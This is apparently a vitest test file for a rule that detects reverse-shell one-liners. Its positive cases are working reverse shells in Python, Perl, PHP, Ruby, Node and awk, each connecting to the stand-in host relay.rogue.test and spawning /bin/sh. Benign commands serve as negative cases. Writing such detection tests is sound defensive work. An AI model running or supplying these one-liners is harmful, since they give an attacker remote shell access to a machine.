import { describe } from 'vitest';
import { exec, sh, ruleTable } from '../../test-kit.js';
import { interpreterOneliner } from './reverse-shell-interpreter-oneliner.js';

const PY = `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("relay.rogue.test",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/sh")`;

describe('proc.reverse-shell-interpreter-oneliner', () => {
  ruleTable(interpreterOneliner, {
    fires: [
      { name: 'python dup2 + pty', event: exec(['python3', '-c', PY]) },
      {
        name: 'python pty without dup2',
        event: exec([
          'python3',
          '-c',
          'import socket,pty;s=socket.create_connection(("relay.rogue.test",443));pty.spawn("sh")',
        ]),
      },
      {
        name: 'perl Socket exec',
        event: sh(
          `perl -e 'use Socket;$i="relay.rogue.test";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`,
        ),
      },
      {
        name: 'php fsockopen',
        event: exec([
          'php',
          '-r',
          '$sock=fsockopen("relay.rogue.test",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
        ]),
      },
      {
        name: 'ruby TCPSocket',
        event: exec([
          'ruby',
          '-rsocket',
          '-e',
          'f=TCPSocket.open("relay.rogue.test",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
        ]),
      },
      {
        name: 'node child_process + net',
        event: exec([
          'node',
          '-e',
          'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"relay.rogue.test")',
        ]),
      },
      {
        name: 'awk /inet/tcp',
        event: exec([
          'awk',
          'BEGIN {s = "/inet/tcp/0/relay.rogue.test/4444"; while(42) { do{ printf "> " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}',
        ]),
      },
    ],
    passes: [
      {
        name: 'python hostname',
        event: exec(['python3', '-c', 'import socket; print(socket.gethostname())']),
      },
      {
        name: 'python subprocess only',
        event: exec(['python3', '-c', 'import subprocess; subprocess.run(["ls"])']),
      },
      { name: 'python script file', event: exec(['python3', 'server.py']) },
      { name: 'awk column print', event: exec(['awk', '{print $1}', 'file.txt']) },
    ],
  });
});
